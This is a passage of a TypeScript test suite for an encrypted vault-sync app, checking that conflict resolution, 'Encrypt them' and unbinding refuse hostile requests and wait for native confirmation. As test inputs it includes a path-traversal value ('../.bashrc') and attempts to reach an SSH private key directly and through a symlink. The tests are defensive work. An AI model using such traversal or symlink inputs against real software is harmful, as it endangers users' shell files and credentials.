    for (const path of [...hostilePaths(), 'doc.kenv', 'notes.txt']) {
      for (const keep of ['this', 'other'] as const) {
        expect(await call('vault:resolveConflict', { path, keep }), `${path} ${keep}`).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
      }
    }
    expect(await call('vault:resolveConflict', { path: 'doc.kenv', keep: 'this', conflictCopy: '../.bashrc' })).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
    expect(shell.trashed).toEqual([]);
    expect(shell.asked).toEqual([]);
    await unchanged();
  });

  it('cannot name the files "Encrypt them" takes: only the plaintext the scan found, never through a link, and only after a native yes', async () => {
    expect(await call('vault:encryptPlaintext', { keyIds: ['k'], paths: [outside().sshKey] })).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
    // "Cancel" in the native dialog: nothing starts.
    expect(await call('vault:encryptPlaintext', { keyIds: ['k'] })).toEqual({ ok: true, value: [] });
    expect(shell.asked.map((q) => q.message)).toEqual(['Encrypt notes.txt in the vault folder?']);
    await unchanged();
    shell.answer = true;
    expect(await call('vault:encryptPlaintext', { keyIds: ['k'] })).toMatchObject({ ok: true, value: [{ path: join(vaultDir, 'notes.txt') }] });
    await app.services.jobs.whenIdle();
    expect(vault.calls.filter((c) => c.startsWith('encrypt '))).toEqual([`encrypt ${join(vaultDir, 'notes.txt')}`]);
    expect(shell.trashed).toEqual([join(vaultDir, 'notes.txt')]);
    // The SSH key behind the link is where it was, byte for byte.
    const after = await snapshot(home);
    expect(after.get(outside().sshKey)).toBe(before.get(outside().sshKey));
    expect(after.get(join(vaultDir, 'link-out'))).toBe(before.get(join(vaultDir, 'link-out')));
  });

  it('unbinding needs the native confirmation', async () => {
    expect(await call('vault:unbind', {})).toMatchObject({ ok: true, value: { binding: { folder: vaultDir } } });
    expect(shell.asked).toMatchObject([{ message: 'Stop syncing Vault with s3://team-vaults/finance?' }]);
    expect((await app.services.settings.get()).vaultBinding).toMatchObject({ folder: vaultDir });
  });
});
